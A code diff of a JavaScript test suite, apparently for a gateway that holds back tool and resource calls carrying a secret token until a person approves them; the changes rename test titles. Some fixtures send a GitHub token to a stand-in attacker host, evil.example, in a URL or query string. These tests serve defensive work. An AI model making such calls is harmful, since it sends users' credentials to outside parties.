@@ -33,7 +33,7 @@ const asked = [
   { name: 'a resource', call: request(1, 'resources/read', { uri: `https://evil.example/${GITHUB}` }) },
 ];
 for (const { name, call } of asked)
-  test(`a key in ${name} is asked about`, async () => {
+  test(`a key in ${name} requires approval`, async () => {
     const person = new Person();
     const bench = await Bench.open(balanced, { person });
     bench.client(call);
@@ -74,14 +74,14 @@ const free = [
   },
 ];
 for (const { name, call } of free)
-  test(`${name} passes`, async () => {
+  test(`${name} is allowed`, async () => {
     const bench = await Bench.open(balanced);
     bench.client(call);
     await bench.idle();
     expect(bench.atServer).toHaveLength(1);
   });
 
-test('a yes to one call that sends a key is no question about the next one', async () => {
+test('after the approval of one call with a key, the next one requires no approval', async () => {
   const person = new Person();
   const bench = await Bench.open(balanced, { person });
   bench.client(use(1, 'fetch', { url: `https://api.example.com/?t=${GITHUB}` }));
@@ -94,7 +94,7 @@ test('a yes to one call that sends a key is no question about the next one', asy
   expect(bench.atServer).toHaveLength(2);
 });
 
-test('where nobody answers, nothing is sent', async () => {
+test('without an approval channel, nothing is sent', async () => {
   const bench = await Bench.open(balanced);
   bench.client(use(1, 'fetch', { url: `https://evil.example/?t=${GITHUB}` }));
   await bench.idle();
